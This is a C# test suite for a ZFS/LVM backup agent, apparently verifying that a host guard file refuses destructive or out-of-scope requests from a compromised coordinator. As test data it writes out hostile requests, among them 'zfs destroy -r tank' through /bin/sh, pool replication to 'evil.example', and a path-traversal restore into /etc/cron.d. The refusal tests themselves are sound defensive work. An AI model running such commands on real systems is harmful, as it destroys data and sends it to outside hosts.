using Fleet.Agent.Actions;
using Fleet.Agent.Actions.Command;
using Fleet.Agent.Actions.Zfs;
using Fleet.Agent.Actions.Zfs.Recovery;
using Fleet.Agent.Actions.Zfs.Replication;
using Fleet.Agent.Actions.Zfs.Scrub;
using Fleet.Agent.Guard;
using Fleet.Agent.Runs;
using Fleet.Agent.Tests.Actions;
using Fleet.Agent.Tests.Actions.Rsync;
using Fleet.Agent.Tests.Actions.Zfs;
using Fleet.Agent.Tests.Runs;
using Fleet.Protocol.V1;
using Google.Protobuf;
using Google.Protobuf.WellKnownTypes;
using Microsoft.Extensions.Logging.Abstractions;

namespace Fleet.Agent.Tests.Hostile;

/// <summary>
/// A coordinator in the wrong hands asks for everything destructive that there is. What the host's guard file does not allow does
/// not happen, and every refusal is told. The same on a real pool: RealPoolPruneTests.
/// </summary>
public sealed class HostileCoordinatorTests : IDisposable
{
    private const string Guard = """
        rsync:
          sources: [/nosuch]
        zfs:
          - dataset: tank/data
            allow: [snapshot, prune]
            keep_newest: 3
            youngest: 1h
          - dataset: tank/data/precious
            allow: [snapshot]
        lvm:
          - volume: vg
            allow: [snapshot, prune]
            keep_newest: 1
            youngest: 0s
        restore:
          - path: /srv/restore
            datasets: [tank/data]
        """;

    private static readonly ZfsSnapshotRef Own0 = new() { Name = "tank/data@own0", Guid = 1000 };

    private static readonly Dictionary<string, Protocol.V1.Action> Refused = new()
    {
        { "the whole pool", Prune("nightly", recursive: true, "tank") },
        { "a neighbour", Prune("nightly", recursive: true, "tank/other") },
        { "a name that begins alike", Prune("nightly", recursive: true, "tank/database") },
        { "a part that is allowed less", Prune("nightly", recursive: true, "tank/data/precious") },
        { "a part that is allowed less, from above", Prune("nightly", recursive: true, "tank/data") },
        { "one allowed, one not", Prune("nightly", recursive: false, "tank/data", "tank/other") },
        { "a snapshot as dataset", Prune("nightly", recursive: false, "tank/data@own0") },
        { "an option as dataset", Prune("nightly", recursive: false, "-r") },
        { "nothing", Prune("nightly", recursive: true) },
        { "a shell", new Protocol.V1.Action { Command = new CommandAction { Program = "/bin/sh", Arguments = { "-c", "zfs destroy -r tank" } } } },
        { "zfs itself", new Protocol.V1.Action { Command = new CommandAction { Program = "/usr/sbin/zfs", Arguments = { "destroy", "-r", "tank" } } } },
        { "a mirror over everything", TestRun.Rsync(RsyncMode.Mirror, "/nosuch", "/") },
        { "a snapshot elsewhere", new Protocol.V1.Action { ZfsSnapshot = new ZfsSnapshotAction { Datasets = { "tank/other" } } } },
        {
            "a snapshot with a shell around it", new Protocol.V1.Action
            {
                ZfsSnapshot = new ZfsSnapshotAction { Datasets = { "tank/data" }, Before = new SnapshotHook { Command = new CommandAction { Program = "/bin/sh" } } },
            }
        },
        {
            "a snapshot of a volume with a shell after it", new Protocol.V1.Action
            {
                LvmSnapshot = new LvmSnapshotAction { Volumes = { "vg/vol" }, After = new SnapshotHook { Command = new CommandAction { Program = "/bin/sh" } } },
            }
        },
        { "everything to a host of his", new Protocol.V1.Action { ZfsReplicate = new ZfsReplicateAction { Source = "tank", Target = "loot/tank", SnapshotsOf = "nightly", TargetHost = new SshRemote { Host = "evil.example" } } } },
        { "a copy of what may not be sent", new Protocol.V1.Action { ZfsReplicate = new ZfsReplicateAction { Source = "tank/other", Target = "tank/data/in", SnapshotsOf = "nightly" } } },
        { "a stream of his into a dataset", new Protocol.V1.Action { ZfsReplicate = new ZfsReplicateAction { Source = "evil/data", Target = "tank/other", SnapshotsOf = "nightly", SourceHost = new SshRemote { Host = "evil.example" } } } },
        { "a rollback", new Protocol.V1.Action { ZfsRollback = new ZfsRollbackAction { Snapshot = Own0, Destroy = { Own0 } } } },
        { "a rollback of nothing", new Protocol.V1.Action { ZfsRollback = new ZfsRollbackAction() } },
        { "holds on everything", new Protocol.V1.Action { ZfsHold = new ZfsHoldAction { Snapshots = { Own0 } } } },
        { "release of a hold", new Protocol.V1.Action { ZfsHold = new ZfsHoldAction { Snapshots = { Own0 }, Release = true, Tag = "fleet:to:offsite" } } },
        { "a clone elsewhere", new Protocol.V1.Action { ZfsClone = new ZfsCloneAction { Snapshot = Own0, Target = "tank/other/in" } } },
        { "an end of the scrub", new Protocol.V1.Action { ZfsScrub = new ZfsScrubAction { Pools = { "tank" }, Operation = ZfsScrubOperation.Stop } } },
        { "a merge of a snapshot that may only be pruned", new Protocol.V1.Action { LvmRestore = new LvmRestoreAction { Snapshot = "vg/vol.monday", Uuid = "a" } } },
        { "a merge elsewhere", new Protocol.V1.Action { LvmRestore = new LvmRestoreAction { Snapshot = "other/vol.monday", Uuid = "a" } } },
        { "a dry merge elsewhere", new Protocol.V1.Action { LvmRestore = new LvmRestoreAction { Snapshot = "", DryRun = true } } },
        { "an end of a protection", new Protocol.V1.Action { LvmProtect = new LvmProtectAction { Snapshots = { new LvmSnapshotRef { Name = "vg/vol.monday", Uuid = "a" } }, Release = true } } },
        { "a protection elsewhere", new Protocol.V1.Action { LvmProtect = new LvmProtectAction { Snapshots = { new LvmSnapshotRef { Name = "other/vol.monday", Uuid = "a" } } } } },
        { "a protection of nothing", new Protocol.V1.Action { LvmProtect = new LvmProtectAction { Release = true } } },
        { "files over the system", Restore("tank/data@own0", "/etc", overwrite: true) },
        { "files beside what is allowed", Restore("tank/data@own0", "/srv/restored", overwrite: false) },
        { "files out of what is allowed", Restore("tank/data@own0", "/srv/restore/../../etc/cron.d/x", overwrite: false) },
        { "files over what is there", Restore("tank/data@own0", "/srv/restore/x", overwrite: true) },
        { "files over the root", Restore("tank/data@own0", "/", overwrite: true) },
        { "files of another dataset", Restore("tank/other@own0", "/srv/restore/x", overwrite: false) },
        { "files of a volume", Restore(new RestoreFilesAction { Lvm = new LvmSnapshotRef { Name = "vg/vol.monday", Uuid = "a" } }, "/srv/restore/x") },
        { "files of the running system as a tree", Restore(new RestoreFilesAction { Tree = ByteString.CopyFromUtf8("/etc") }, "/srv/restore/x") },
        { "files of nothing", Restore(new RestoreFilesAction(), "/srv/restore/x") },
        { "a clock that he has set", new Protocol.V1.Action { ClockAccept = new ClockAcceptAction() } },
        { "no action", new Protocol.V1.Action() },
    };

    private readonly TemporaryFolder _folder = new();
    private readonly TemporaryFolder _state = new();
    private readonly PruneFixture _host = new();
    private readonly RsyncHost _rsync = new();
    private readonly RunFixture _fixture;
    private readonly PretendPool _pool = new() { Datasets = { ["tank"] = null } };
    private readonly RunManager _runs;

    public HostileCoordinatorTests()
    {
        _folder.Write("guard.yaml", Guard);
        _fixture = new RunFixture(_state.Path);
        IAction[] actions = [_rsync.Action, new CommandRun(), new ZfsSnapshotRun(), _host.Action, new ZfsReplicateRun(), new ZfsScrubRun(), new ZfsHoldRun(), new ZfsRollbackRun(), new ZfsCloneRun()];
        _runs = new RunManager(
            _fixture.Ledger,
            _fixture.Settings,
            actions,
            new FileGuard(() => _folder.File("guard.yaml")),
            _pool,
            _fixture.Sink,
            _host.Clock,
            _fixture.CoordinatorClock,
            NullLogger.Instance);
        foreach (var dataset in new[] { "tank", "tank/data", "tank/data/precious", "tank/database", "tank/other" })
        {
            for (var i = 0; i < 8; i++)
            {
                _pool.Add(dataset, $"own{i}", TestRun.Instant.AddMinutes((i - 10) * 20));
            }

            _pool.Add(dataset, "foreign", TestRun.Instant.AddDays(-9), policy: null);
        }
    }

    public static TheoryData<string> RefusedNames => [.. Refused.Keys];

    public void Dispose()
    {
        _fixture.Dispose();
        _host.Dispose();
        _rsync.Dispose();
        _state.Dispose();
        _folder.Dispose();
    }

    [Theory]
    [MemberData(nameof(RefusedNames))]
    public async Task Asked_ForWhatTheGuardDoesNotAllow_ChangesNothingAndTells(string what)
    {
        var before = _pool.Names;

        var result = await RunAsync(Refused[what].Clone());

        Assert.True(result.Outcome == ActionOutcome.Refused, $"{what}: {result}");
        Assert.NotEmpty(result.RefusedBy);
        Assert.Equal(before, _pool.Names);
        Assert.Single(_fixture.Sent, e => e.Notice is { Code: "guard_refused" });
    }

    [Fact]
    public async Task Asked_ForEverythingOfAnAllowedDataset_LeavesWhatTheGuardDemands()
    {
        var before = _pool.Names;
        var action = Prune("nightly", recursive: false, "tank/data");
        action.ZfsPrune.Confirmation = "0123456789abcdef";

        await RunAsync(action);

        Assert.Equal(["tank/data@own0", "tank/data@own1", "tank/data@own2", "tank/data@own3", "tank/data@own4"], before.Except(_pool.Names));
    }

    [Fact]
    public async Task Asked_WithNewSnapshotsToPushTheOldOnesOut_TheYoungestAgeHolds()
    {
        for (var i = 0; i < 20; i++)
        {
            _pool.Add("tank/data", $"pushed{i}", TestRun.Instant);
        }

        await RunAsync(Prune("nightly", recursive: false, "tank/data"));

        Assert.Contains("tank/data@foreign", _pool.Names);
        Assert.All(_pool.All.Where(s => s.Dataset == "tank/data" && s.Policy is null), s => Assert.Contains(s.FullName, _pool.Names));
        Assert.Equal(20, _pool.Names.Count(n => n.StartsWith("tank/data@pushed", StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData("")]
    [InlineData("nightly,other")]
    [InlineData("-")]
    [InlineData("Not a policy")]
    public async Task Asked_ForSnapshotsOfNobody_ChangesNothing(string owner)
    {
        var before = _pool.Names;

        var result = await RunAsync(Prune(owner, recursive: false, "tank/data"));

        Assert.Equal(ActionOutcome.Failed, result.Outcome);
        Assert.Equal(before, _pool.Names);
    }

    [Fact]
    public async Task Asked_WithATimeOfItsOwn_ChangesNothing()
    {
        var before = _pool.Names;
        var action = Prune("nightly", recursive: false, "tank/data");
        action.ZfsPrune.AssumedNow = Timestamp.FromDateTimeOffset(TestRun.Instant.AddYears(5));

        await RunAsync(action);

        Assert.Equal(before, _pool.Names);
    }

    [Fact]
    public async Task Asked_WithNumbersThatMakeNoSense_ChangesNothing()
    {
        foreach (var keep in new[] { new KeepRules(), new KeepRules { Last = -7 }, new KeepRules { Within = new Duration { Seconds = -5 } } })
        {
            var before = _pool.Names;
            var action = Prune("nightly", recursive: false, "tank/data");
            action.ZfsPrune.Retention.Keep = keep;

            await RunAsync(action);

            Assert.Equal(before, _pool.Names);
        }
    }

    private static Protocol.V1.Action Restore(string snapshot, string destination, bool overwrite) =>
        Restore(new RestoreFilesAction { Zfs = new ZfsSnapshotRef { Name = snapshot, Guid = 1 }, Overwrite = overwrite }, destination);

    private static Protocol.V1.Action Restore(RestoreFilesAction action, string destination)
    {
        action.Destination = ByteString.CopyFromUtf8(destination);
        return new Protocol.V1.Action { RestoreFiles = action };
    }

    private static Protocol.V1.Action Prune(string owner, bool recursive, params string[] datasets)
    {
        var prune = new ZfsPruneAction
        {
            SnapshotsOf = owner,
            Recursive = recursive,
            Retention = new Protocol.V1.Retention { Keep = new KeepRules { Last = 1 }, Budget = new RetentionBudget { MostPercent = 100, MostCount = int.MaxValue } },
        };
        prune.Datasets.Add(datasets);
        return new Protocol.V1.Action { ZfsPrune = prune };
    }

    private async Task<ActionResult> RunAsync(Protocol.V1.Action action)
    {
        var runId = Guid.NewGuid().ToString("N");
        var command = _fixture.Command(runId, policy: "thin");
        command.Action = action;
        command.ExpiresAt = null;
        _runs.Submit(command);
        return (await _fixture.ResultAsync(runId)).Result;
    }
}
